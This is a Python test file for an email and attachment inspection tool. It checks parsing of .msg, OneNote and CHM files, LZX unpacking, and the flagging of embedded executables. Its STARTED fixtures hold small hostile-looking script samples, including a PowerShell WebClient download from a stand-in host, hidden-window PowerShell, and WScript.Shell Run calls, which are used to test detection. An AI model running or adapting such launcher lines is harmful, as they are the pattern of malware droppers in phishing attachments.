"""Files that hold mails, pages and other files (catalogue B38, B50): what is in them is found.

`mail_files.py` makes the mails; tests/corpus/mail_files keeps each of them as a file with its expected reading.
"""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import olefile
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mail_files import MAIL_FILES, PAGE, PROGRAM, URL, attached, case_files, chm, lzx_packed, msg, one, one_file
from sekisho_core.vocabulary import Reading
from sekisho_inspection import lzx
from sekisho_inspection.storage import Storage, compound_file
from summaries import summary

Read = Callable[..., Reading]
CASES = sorted((Path(__file__).parents[1] / "corpus" / "mail_files").glob("*.eml"))
ENDINGS = pytest.mark.parametrize("ending", [b"\n", b"\r\n"], ids=["lf", "crlf"])
# Cases that hold what cannot be read whole; each of them says so.
DAMAGED = {
    "B50 msg with a broken stream", "B50 one with a wrong length", "B50 one with a length of nothing", "B50 one packed",
    "B50 chm damaged", "B50 pst",
}  # fmt: skip


@pytest.mark.parametrize("name", MAIL_FILES)
def test_file_and_link_are_found(name: str, read: Read) -> None:
    """The program is a part with its own hash and the link is observed, or there is a gap."""
    reading = read(MAIL_FILES[name])
    found = hashlib.sha256(PROGRAM).hexdigest() in {part.sha256 for part in reading.parts}
    link = URL in {one.value for one in reading.observables if one.path == "url:value"}
    assert (found and (link or " one " in name)) or reading.incomplete
    assert bool(reading.incomplete) == (name in DAMAGED)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.stem)
@ENDINGS
def test_case_files(case: Path, ending: bytes, read: Read) -> None:
    """Each case reads as its JSON says, with either line end."""
    got = summary(read(case.read_bytes().replace(b"\n", ending)))
    assert got == json.loads(case.with_suffix(".json").read_text(encoding="utf-8"))


def test_case_files_are_those_of_the_makers() -> None:
    """Every case is kept as a file, and no other."""
    assert {case.stem: case.read_bytes() for case in CASES} == case_files()


def test_head_of_a_message_file(read: Read) -> None:
    """Subject, sender, recipients and the names of files are observables of the message's part."""
    reading = read(MAIL_FILES["B50 msg"])
    values = {(one.path, one.value, one.where) for one in reading.observables}
    assert ("email-message:subject", "資料の送付", "part:2") in values
    assert ("email-message:from_ref.value", "c@example.com", "part:2") in values
    assert ("email-message:to_refs[*].value", "d@example.jp", "part:2") in values
    assert ("file:name", "報告書.exe", "part:2.3") in values


def test_object_in_a_message_is_read_as_a_file(read: Read) -> None:
    """An object that is attached as a storage is a compound file of its own, whatever it holds."""
    deep = Storage({"small": b"s", "large": PAGE * 200}, {"inner": Storage({"x": b""})})
    with olefile.OleFileIO(io.BytesIO(compound_file(deep))) as file:
        assert sorted(map(tuple, file.listdir())) == [("inner", "x"), ("large",), ("small",)]
        assert file.openstream("large").read() == PAGE * 200
        assert file.openstream("small").read() == b"s"


def test_message_of_many_streams(read: Read) -> None:
    """C15: storages nested deeper than Outlook makes them end in a gap or are left, and the rest is read."""
    storage = msg()
    storage.inside(["__attach_version1.0_#00000000", "__substg1.0_3701000D", *"abcdefghij" * 10]).streams["x"] = b"x"
    reading = read(attached("a.msg", compound_file(storage)))
    assert hashlib.sha256(PROGRAM).hexdigest() in {part.sha256 for part in reading.parts}


def test_files_of_one_note_without_end(read: Read) -> None:
    """More files than a mail may have parts are a gap."""
    reading = read(attached("a.one", one(*[one_file(b"MZ%d" % number) for number in range(2100)])))
    assert {gap.reason for gap in reading.incomplete} == {"limit"}


STARTED = {
    "HTA": b'<script language="VBScript">CreateObject("WScript.Shell").Run "x"</script>',
    "page with an ActiveX object": b'<html><script>new ActiveXObject("WScript.Shell").Run("x")</script></html>',
    "VBS": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "x"',
    "JS": b'var s = new ActiveXObject("Scripting.FileSystemObject");',
    "WSF": b'<job><script language="JScript">x()</script></job>',
    "batch": b"@echo off\r\nstart x.exe\r\n",
    "PowerShell": b"(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'x')",
    "wide": '@echo off\r\npowershell -w hidden -c "x"\r\n'.encode("utf-16"),
    "encoded": rb"#@~^DgAAAA==\ko$K6,JCV^GJ@@EQAAA==^#~@",
    "help": b"ITSF\x03\0\0\0" + bytes(100),
}
IDLE = {
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(64), "document": b"%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n",
    "text": "会議の資料です。\r\n".encode(), "page": b"<html><body><script>print()</script><p>hello</p></body></html>",
    "table": b"a,b\r\n1,2\r\n",
}  # fmt: skip


@pytest.mark.parametrize("content", STARTED.values(), ids=STARTED)
def test_script_in_one_note(content: bytes, read: Read) -> None:
    """B38: a script in a section is a program's by its content, whatever its name is; a program's name tells it too."""
    assert "executable" in {found.kind for found in read(attached("a.one", one(one_file(content)))).findings}
    idle = read(attached("a.one", one(one_file(b"x" * 40), name="a.wsf")))
    assert "executable" in {found.kind for found in idle.findings}


@pytest.mark.parametrize("content", IDLE.values(), ids=IDLE)
def test_idle_file_in_one_note(content: bytes, read: Read) -> None:
    """Pictures, documents, texts and pages in a section are no programs."""
    reading = read(attached("a.one", one(one_file(content), name="a.png")))
    assert "executable" not in {found.kind for found in reading.findings}


def test_text_that_begins_as_a_mailbox_is_none(read: Read) -> None:
    """A text with the word From at its beginning is no mailbox, nor is one without a name."""
    for name in ("a.txt", "a.dat"):
        assert len(read(attached(name, b"From the desk of a\nDear: all\n\nFrom here on\n")).parts) == 2


@given(st.binary(max_size=3000), st.integers(15, 21))
def test_lzx_never_raises_anything_else(data: bytes, window: int) -> None:
    """Any bytes unpack to what was asked for, or are no LZX."""
    with suppress(lzx.BadLzx):
        assert len(lzx.inflate(data, window, 40_000)) == 40_000


@given(st.lists(st.sampled_from([b"listed", b"\0" * 9, bytes(range(200)), b"\xe8\1\2\3\4"]), min_size=1, max_size=400))
def test_lzx_unpacks_what_was_packed(pieces: list[bytes]) -> None:
    """Literals and matches come out as they went in, over frames too."""
    content = b"".join(pieces)
    assert lzx.inflate(b"".join(lzx_packed(content)), 16, len(content)) == content


def test_help_file_above_its_bound(read: Read) -> None:
    """B34: of a help file 4 MB are unpacked; more is a gap, and the names are listed."""
    reading = read(attached("a.chm", chm({"/x.exe": PROGRAM}, claimed=4 << 20)))
    assert "limit" in {gap.reason for gap in reading.incomplete}
    assert "/x.exe" in {name for part in reading.parts for name in part.names}
